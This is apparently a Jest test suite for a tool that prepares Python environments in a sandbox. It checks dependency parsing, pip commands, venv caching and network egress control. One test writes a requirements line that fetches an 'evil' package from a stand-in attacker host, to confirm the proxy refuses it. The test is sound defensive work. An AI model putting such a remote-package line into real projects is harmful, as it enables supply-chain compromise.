import { describe, expect, it } from '@jest/globals';
import { access, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { pythonInstall } from '../../../src/gates/python/install.js';
import type { GateContext } from '../../../src/gates/types.js';
import type { Sandbox, SandboxCommand } from '../../../src/sandbox/types.js';
import { createSandbox } from '../../../src/sandbox/index.js';
import { pipArgv, preparePythonEnvironment, readRequirements } from '../../../src/workspace/python-install.js';
import { fixtureWorkspace } from './fixture.js';

/** Wraps the context's sandbox to record every command it runs. */
function recording(ctx: GateContext): SandboxCommand[] {
  const calls: SandboxCommand[] = [];
  const inner: Sandbox = ctx.sandbox;
  ctx.sandbox = {
    kind: inner.kind,
    run: (command) => {
      calls.push(command);
      return inner.run(command);
    },
  };
  return calls;
}

describe('pip command', () => {
  it('is not run when the project declares nothing', () => {
    expect(pipArgv('/ws/.venv/bin/python', { requirementFiles: [], requirements: [], installProject: false })).toBeUndefined();
  });

  it('installs requirement files, declared requirements and, for setup.py projects, the project itself', () => {
    const argv = pipArgv('py', { requirementFiles: ['requirements.txt'], requirements: ['requests>=2'], installProject: true });
    expect(argv?.slice(0, 4)).toEqual(['py', '-m', 'pip', 'install']);
    expect(argv?.slice(-5)).toEqual(['-r', 'requirements.txt', 'requests>=2', '--no-build-isolation', '.']);
  });
});

describe('Python environment', () => {
  it('reads PEP 621 dependencies, test extras and setup.cfg requirements without running setup.py', async () => {
    const ws = await fixtureWorkspace('py-pass');
    try {
      await writeFile(
        path.join(ws.ctx.dir, 'pyproject.toml'),
        '[project]\nname = "x"\ndependencies = ["attrs"]\n[project.optional-dependencies]\ntest = ["pytest"]\ndocs = ["sphinx"]\n',
      );
      await writeFile(path.join(ws.ctx.dir, 'setup.cfg'), '[options]\ninstall_requires =\n    packaging\n');
      await writeFile(path.join(ws.ctx.dir, 'setup.py'), 'raise SystemExit("never run")\n');
      expect(await readRequirements(ws.ctx)).toEqual({ requirementFiles: [], requirements: ['attrs', 'packaging', 'pytest'], installProject: false });
    } finally {
      await ws.cleanup();
    }
  });

  it('installs the test groups only, following include-group, and falls back to dev when there is none', async () => {
    const ws = await fixtureWorkspace('py-pass');
    try {
      const pyproject = path.join(ws.ctx.dir, 'pyproject.toml');
      await writeFile(
        pyproject,
        [
          '[project]', 'name = "x"', 'dependencies = []',
          '[project.optional-dependencies]', 'dev = ["black"]', 'Testing = ["hypothesis"]',
          '[dependency-groups]', 'dev = ["ruff", "tox"]', 'base = ["pytest"]',
          'tests = [{include-group = "base"}, "freezegun", {include-group = "tests"}]', '',
        ].join('\n'),
      );
      expect((await readRequirements(ws.ctx)).requirements).toEqual(['freezegun', 'hypothesis', 'pytest']);
      // No group named for the tests: dev stands in.
      await writeFile(pyproject, '[project]\nname = "x"\n[dependency-groups]\ndev = ["pytest", {include-group = "lint"}]\nlint = ["ruff"]\ndocs = ["sphinx"]\n');
      expect((await readRequirements(ws.ctx)).requirements).toEqual(['pytest', 'ruff']);
    } finally {
      await ws.cleanup();
    }
  });

  it("reads the deps of tox.ini's [testenv], leaving out what tox or pip would expand", async () => {
    const ws = await fixtureWorkspace('py-pass');
    try {
      await writeFile(
        path.join(ws.ctx.dir, 'tox.ini'),
        '[tox]\nenvlist = py311,flake8\n[testenv]\ndeps =\n    pytest>=7  # the runner\n    hypothesis ; python_version >= "3.6"\n    -rrequirements-dev.txt\n    py311: tomli\n    {[base]deps}\ncommands = pytest\n[testenv:flake8]\ndeps = flake8\n',
      );
      expect((await readRequirements(ws.ctx)).requirements).toEqual(['hypothesis ; python_version >= "3.6"', 'pytest>=7']);
    } finally {
      await ws.cleanup();
    }
  });

  it('creates the venv without network when the project has no third-party requirement', async () => {
    const ws = await fixtureWorkspace('py-pass');
    try {
      const calls = recording(ws.ctx);
      expect(await pythonInstall.needed(ws.ctx.dir, ws.ctx.config)).toBe(true);
      const outcome = await pythonInstall.run(ws.ctx);
      expect(outcome).toMatchObject({ ok: true, cached: false });
      await access(path.join(ws.ctx.dir, '.venv', 'bin', 'python'));
      expect(calls.some((call) => call.network === true)).toBe(false);
    } finally {
      await ws.cleanup();
    }
  });

  it('installs requirements with network once, then restores the venv from the cache', async () => {
    const cacheDir = await mkdtemp(path.join(os.tmpdir(), 'qg-pycache-'));
    const first = await fixtureWorkspace('py-tests-fail', {}, cacheDir);
    const second = await fixtureWorkspace('py-tests-fail', {}, cacheDir);
    try {
      const firstCalls = recording(first.ctx);
      expect((await preparePythonEnvironment(first.ctx)).source).toBe('installed');
      expect(firstCalls.filter((call) => call.network === true).map((call) => call.argv.slice(1, 4))).toEqual([['-m', 'pip', 'install']]);
      // Asking again in the same checkout reuses the finished environment.
      expect((await preparePythonEnvironment(first.ctx)).source).toBe('installed');
      expect(firstCalls.filter((call) => call.network === true)).toHaveLength(1);

      const secondCalls = recording(second.ctx);
      const restored = await preparePythonEnvironment(second.ctx);
      expect(restored.source).toBe('cache');
      expect(secondCalls.some((call) => call.network === true)).toBe(false);
      await access(path.join(second.ctx.dir, '.venv', 'bin', 'python'));
    } finally {
      await Promise.all([first.cleanup(), second.cleanup(), rm(cacheDir, { recursive: true, force: true })]);
    }
  });

  it('reports a failed install with pip output instead of throwing', async () => {
    const ws = await fixtureWorkspace('py-pass');
    try {
      await writeFile(path.join(ws.ctx.dir, 'requirements.txt'), 'quality-gates-no-such-package==9.9.9\n');
      const outcome = await pythonInstall.run(ws.ctx);
      expect(outcome.ok).toBe(false);
      expect(outcome.output).toContain('Installing the Python dependencies failed');
      expect(outcome.output).toContain('quality-gates-no-such-package');
    } finally {
      await ws.cleanup();
    }
  });

  it("goes out through the egress proxy only: the operator's index by name, any other host refused and named", async () => {
    const ws = await fixtureWorkspace('py-pass');
    try {
      // .invalid never resolves (RFC 6761): the proxy allows the operator's index by name and then finds no address.
      ws.ctx.sandbox = await createSandbox({ env: { ...process.env, PIP_INDEX_URL: 'https://pypi.invalid/simple' } });
      await writeFile(path.join(ws.ctx.dir, 'requirements.txt'), 'attrs\nevil @ https://files.attacker.example/evil-1.0.tar.gz\n');
      const outcome = await pythonInstall.run(ws.ctx);
      expect(outcome.ok).toBe(false);
      expect(outcome.output).toMatch(/the Python install tried to reach (pypi\.invalid:443: refused \(the name does not resolve|files\.attacker\.example:443: refused \(not a package registry\))/);
      expect(outcome.output).toContain('QG_INSTALL_ALLOW_HOSTS');
    } finally {
      await ws.cleanup();
    }
  });
});
